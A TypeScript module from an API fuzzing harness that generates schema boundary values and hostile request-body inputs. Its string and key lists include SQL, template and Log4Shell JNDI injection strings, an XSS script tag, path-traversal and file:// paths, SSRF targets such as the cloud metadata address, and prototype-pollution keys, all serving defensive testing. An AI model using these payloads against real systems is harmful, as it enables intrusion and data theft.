import { isMapLocation, type Location } from './json-paths';
import { isObj, isRaw, jsonType, obj, type J } from './json-text';
import { typesOf, type SchemaRegistry } from './schema-arbitrary';
import { BODY_LIMIT, type Base } from './fuzz-case';

/** What body mutations put in: values at and past a schema's stated limits, hostile strings and keys, and sizes up to past the body limit. */

export const WRONG_TYPES: J[] = [
  1,
  0,
  -1,
  1.5,
  { $raw: '-0' },
  { $raw: '1e308' },
  { $raw: '1e999' },
  { $raw: '-1e999' },
  'x',
  '',
  '1',
  'NaN',
  'Infinity',
  '-0',
  'null',
  'true',
  '[object Object]',
  true,
  false,
  null,
  [],
  ['x'],
  [1, 'a'],
  obj([]),
  obj([['a', 1]]),
  [obj([])],
];

export function compatible(value: J, types: Set<string>): boolean {
  if (isRaw(value) && /e999/.test(value.$raw)) return false;
  const type = jsonType(value);
  if (type === 'integer') return types.has('integer') || types.has('number');
  if (type === 'number') return types.has('number');
  return types.has(type);
}

interface Candidate {
  value: J;
  reject: boolean;
  note: string;
}

const ISO_NOW = (): string => new Date().toISOString();

/** Values at and past the limits the schema at `location` states, each with whether it is certainly refused. */
export function boundaryCandidates(location: Location, registry: SchemaRegistry, name: string): Candidate[] {
  const schema = location.schema;
  const types = typesOf(schema, registry);
  const out: Candidate[] = [];
  const min = typeof schema?.minimum === 'number' ? schema.minimum : undefined;
  const max = typeof schema?.maximum === 'number' ? schema.maximum : undefined;
  const minLength = typeof schema?.minLength === 'number' ? schema.minLength : 0;
  const maxLength = typeof schema?.maxLength === 'number' ? schema.maxLength : undefined;
  if (Array.isArray(schema?.enum)) {
    const first = String(schema.enum[0]);
    for (const value of ['', 'NOPE', first.toUpperCase(), `${first} `, ` ${first}`, `${first}\u0000`, first.slice(0, -1)])
      out.push({ value, reject: !schema.enum.includes(value), note: 'enum' });
    return out;
  }
  if (types.has('string')) {
    const pattern = typeof schema?.pattern === 'string' ? new RegExp(schema.pattern) : null;
    const check = (value: string): boolean => {
      const characters = [...value].length;
      return (pattern ? !pattern.test(value) : false) || characters < minLength || (maxLength !== undefined && characters > maxLength);
    };
    if (schema?.format === 'uri' || /url$/.test(name)) {
      for (const value of ['', 'not a url', 'https://', 'ftp://example.com/x', 'https://exa mple.com/']) out.push({ value, reject: true, note: 'uri' });
      for (const value of [
        'http://example.com/x',
        'javascript:alert(1)',
        'file:///etc/passwd',
        'https://127.0.0.1/',
        'https://[::1]/',
        'https://[::127.0.0.1]/',
        'https://[2002:7f00:1::]/',
        'https://[64:ff9b::7f00:1]/',
        'https://[2001::1]/',
        'https://169.254.169.254/latest/meta-data',
        'https://0x7f.1/',
        'https://localhost./',
      ])
        out.push({ value, reject: false, note: 'uri' });
      if (maxLength !== undefined) out.push({ value: `https://example.com/${'a'.repeat(maxLength)}`, reject: true, note: 'uri too long' });
      return out;
    }
    if (schema?.format === 'date-time' || schema?.format === 'date' || /scheduled_for|created_(after|before)/.test(name) || Array.isArray(schema?.oneOf)) {
      const scheduled = name === 'scheduled_for';
      out.push({ value: 'not-a-date', reject: true, note: 'date' });
      out.push({ value: '2026-02-30T00:00:00Z', reject: scheduled, note: 'date' });
      out.push({ value: '2026-13-01T00:00:00Z', reject: true, note: 'date' });
      out.push({ value: '9999-12-31T20:00:01Z', reject: scheduled, note: 'far future' });
      out.push({ value: '9000-01-01', reject: scheduled, note: 'far future' });
      out.push({ value: '+275760-09-13T00:00:00Z', reject: scheduled, note: 'extended year' });
      out.push({ value: '0000-01-01T00:00:00Z', reject: scheduled, note: 'year 0' });
      out.push({ value: '1970-01-01T00:00:00Z', reject: scheduled, note: 'past' });
      out.push({ value: ISO_NOW(), reject: scheduled, note: 'now' });
      out.push({ value: '2026-11-01T10:00:00+25:00', reject: scheduled, note: 'bad offset' });
      out.push({ value: '', reject: scheduled, note: 'empty' });
      return out;
    }
    if (minLength > 0) out.push({ value: 'x'.repeat(minLength - 1), reject: true, note: 'minLength-1' });
    out.push({ value: '', reject: check(''), note: 'empty' });
    out.push({ value: ' ', reject: check(' '), note: 'blank' });
    if (maxLength !== undefined) {
      out.push({ value: 'a'.repeat(maxLength), reject: check('a'.repeat(maxLength)), note: 'maxLength' });
      out.push({ value: 'a'.repeat(maxLength + 1), reject: true, note: 'maxLength+1' });
      // Lengths count characters (code points), as JSON Schema and class-validator do: a pair is one.
      out.push({ value: '😀'.repeat(maxLength), reject: check('😀'.repeat(maxLength)), note: 'maxLength in surrogate pairs' });
      out.push({ value: '😀'.repeat(maxLength + 1), reject: true, note: 'maxLength+1 in surrogate pairs' });
    }
    if (pattern) for (const value of ['UPPER', '-lead', 'a b', 'a/b', 'İ', 'a'.repeat(101)]) out.push({ value, reject: check(value), note: 'pattern' });
    return out;
  }
  if (types.has('integer') || types.has('number')) {
    const integerOnly = types.has('integer') && !types.has('number');
    const push = (value: J, bad: boolean, note: string): void => void out.push({ value, reject: bad, note });
    if (min !== undefined) {
      push(min - 1, true, 'minimum-1');
      push(min, false, 'minimum');
    }
    if (max !== undefined) {
      push(max, false, 'maximum');
      push(max + 1, true, 'maximum+1');
    }
    push(1.5, integerOnly, 'fraction');
    push({ $raw: '1e308' }, max !== undefined && max < 1e308, '1e308');
    push({ $raw: '1e999' }, true, 'overflows to Infinity');
    push({ $raw: '-0' }, min !== undefined && min > 0, '-0');
    push({ $raw: '0.1e-400' }, min !== undefined && min > 0, 'underflows to 0');
    push(2 ** 53 + 1, max !== undefined && max < 2 ** 53, '2^53+1');
    push(-(2 ** 63), min !== undefined, '-2^63');
    push({ $raw: '123456789012345678901234567890' }, max !== undefined, '30 digits');
    push({ $raw: '1.0' }, (min !== undefined && 1 < min) || (max !== undefined && 1 > max), '1.0');
    return out;
  }
  if (types.has('array')) {
    const minItems = typeof schema?.minItems === 'number' ? schema.minItems : 0;
    const maxItems = typeof schema?.maxItems === 'number' ? schema.maxItems : undefined;
    const existing = Array.isArray(location.value) && location.value.length > 0 ? location.value[0] : 'x';
    const distinct = (count: number): J[] =>
      Array.from({ length: count }, (_, index) => (typeof existing === 'string' ? `${existing.slice(0, 50)}${index}` : existing));
    out.push({ value: [], reject: minItems > 0, note: 'empty' });
    if (maxItems !== undefined) {
      out.push({ value: distinct(maxItems + 1), reject: true, note: 'maxItems+1' });
      out.push({ value: distinct(maxItems), reject: false, note: 'maxItems' });
    }
    if (schema?.uniqueItems) out.push({ value: [existing, existing], reject: true, note: 'duplicates' });
    return out;
  }
  if (isMapLocation(location)) {
    const maxProperties = typeof schema?.maxProperties === 'number' ? schema.maxProperties : 50;
    const entries = (count: number): [string, J][] => Array.from({ length: count }, (_, index) => [`k${index}`, 'v']);
    out.push({ value: obj(entries(maxProperties + 1)), reject: true, note: 'maxProperties+1' });
    out.push({ value: obj(entries(maxProperties)), reject: false, note: 'maxProperties' });
    out.push({ value: obj([['k'.repeat(41), 'v']]), reject: true, note: 'key of 41' });
    out.push({ value: obj([['k'.repeat(40), 'v']]), reject: false, note: 'key of 40' });
    out.push({ value: obj([['', 'v']]), reject: true, note: 'empty key' });
    out.push({ value: obj([['k', 'v'.repeat(501)]]), reject: true, note: 'value of 501' });
    out.push({ value: obj([['k', 'v'.repeat(500)]]), reject: false, note: 'value of 500' });
    out.push({ value: obj([['k', { $raw: '1e999' }]]), reject: true, note: 'Infinity value' });
    return out;
  }
  if (types.has('object') || schema?.properties) {
    const required = (schema?.required ?? []) as string[];
    out.push({ value: obj([]), reject: required.length > 0, note: 'empty object' });
  }
  return out;
}

export const NUL_FORMS = ['\u0000', 'a\u0000b', '\u0000\u0000\u0000', 'tail\u0000'];
export const SURROGATE_FORMS = ['\ud800', 'a\udfffb', '\udc00\ud800', '\ud83d', 'x\ud800\ud800', '\udbff'];
export const OTHER_STRINGS = [
  '\u0001',
  '\u001b[2J',
  '\u007f',
  '\u202e',
  '\ufeff',
  '\uffff',
  '\ufffe',
  '\ud83d\ude00',
  '\u2028',
  '\r\n',
  '\\',
  '"',
  '%00',
  "' OR 1=1 --",
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-lookup injection, sent as the literal text
  '${jndi:ldap://x/a}',
  '<script>alert(1)</script>',
  '\u0085',
  'é',
  '\u0300',
  '../../etc/passwd',
  '\u0000'.replace('\u0000', '\\u0000'),
];
export const EVIL_KEYS = [
  'a\u0000b',
  '\u0000',
  '\ud800',
  'k\udfff',
  '\udc00\ud800',
  '',
  ' ',
  'k'.repeat(41),
  'k'.repeat(1000),
  '😀',
  'é',
  'a.b',
  'a[0]',
  '$where',
  '__proto__x',
  'x'.repeat(40),
];
export const PROTOTYPE_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  '__lookupGetter__',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
];
export const PROTOTYPE_VALUES: J[] = [
  'x',
  1,
  true,
  null,
  obj([]),
  obj([['polluted', true]]),
  obj([['prototype', obj([['polluted', true]])]]),
  [],
  obj([['toString', 'x']]),
];

/** Fixed-size choices for the huge family; the run decides how big it may go. */
export const HUGE_SIZES = [1000, 20_001, 100_001, 200_001, BODY_LIMIT - 400, BODY_LIMIT - 60, BODY_LIMIT + 1, 2_000_000];

/** The string values of a body (where a hostile string can go). */
export const stringLocations = (all: Location[]): Location[] => all.filter((location) => typeof location.value === 'string' && location.path.length > 0);
export const objectLocations = (all: Location[]): Location[] => all.filter((location) => isObj(location.value));

export function insertText(original: string, evil: string, where: number): string {
  switch (where % 4) {
    case 0:
      return evil;
    case 1:
      return `${evil}${original}`;
    case 2:
      return `${original}${evil}`;
    default: {
      const middle = Math.floor(original.length / 2);
      return `${original.slice(0, middle)}${evil}${original.slice(middle)}`;
    }
  }
}

export const declaredProperty = (location: Location | undefined, key: string): boolean =>
  !!location && !isMapLocation(location) && !!(location.schema?.properties as Record<string, unknown> | undefined)?.[key];

export function bodyValue(base: Base): J {
  return base.body.kind === 'json' ? base.body.value : obj([]);
}
